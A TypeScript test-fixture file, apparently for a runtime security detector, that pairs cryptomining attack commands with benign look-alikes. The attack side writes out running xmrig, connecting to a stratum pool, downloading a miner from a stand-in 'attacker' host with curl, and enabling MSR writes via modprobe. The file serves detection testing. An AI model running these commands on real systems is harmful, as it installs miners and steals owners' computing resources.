import { type Attack, pair } from "./attack.ts";

const mining = [
  ...pair("Digital Currency Mining", "name", { exec: ["/opt/xmrig"] }, { exec: ["/opt/work"] }),
  ...pair(
    "Digital Currency Mining",
    "renamed-miner",
    { exec: ["/opt/work", "-o", "stratum+tcp://10.99.7.2:443", "-u", "worker"] },
    { exec: ["/opt/work", "-o", "out.txt", "-u", "worker"] },
  ),
  ...pair(
    "Digital Currency Mining",
    "port-of-a-pool",
    { exec: ["/opt/probe", "/opt/connect.pl", "10.99.7.2", "14444"] },
    { exec: ["/opt/probe", "/opt/connect.pl", "10.99.7.2", "443"] },
  ),
  ...pair(
    "Digital Currency Mining",
    "not-there",
    { exec: ["sh", "-c", "/usr/local/bin/xmrig; true"] },
    { exec: ["sh", "-c", "/usr/local/bin/xterm; true"] },
  ),
];

const downloads = [
  ...pair(
    "Coin Miner Download",
    "curl",
    { page: ["curl", "-s", "-o", "/dev/null", "http://attacker/xmrig"] },
    { page: ["curl", "-s", "-o", "/dev/null", "http://attacker/report"] },
  ),
  ...pair(
    "Coin Miner Download",
    "renamed-client",
    { exec: ["/opt/fetch", "-s", "-o", "/dev/null", "http://attacker/xmrig"] },
    { exec: ["/opt/fetch", "-s", "-o", "/dev/null", "http://attacker/report"] },
  ),
];

const optimization = [
  // There is no modprobe in the image, as in most: the attempt counts.
  ...pair(
    "Kubernetes CPU Optimization",
    "module-refused",
    { exec: ["sh", "-c", "/sbin/modprobe msr allow_writes=on; true"] },
    { exec: ["/opt/probe", "/opt/module.pl"] },
  ),
  ...pair(
    "Kubernetes CPU Optimization",
    "renamed-modprobe",
    { exec: ["/opt/load", "msr", "allow_writes=on"] },
    { exec: ["/opt/load", "overlay"] },
  ),
  ...pair(
    "Kubernetes CPU Optimization",
    "huge-pages",
    { exec: ["sh", "/opt/huge-pages.sh"] },
    { exec: ["sh", "/opt/read-huge-pages.sh"] },
  ),
];

export const ofMiners: Attack[] = [...mining, ...downloads, ...optimization];
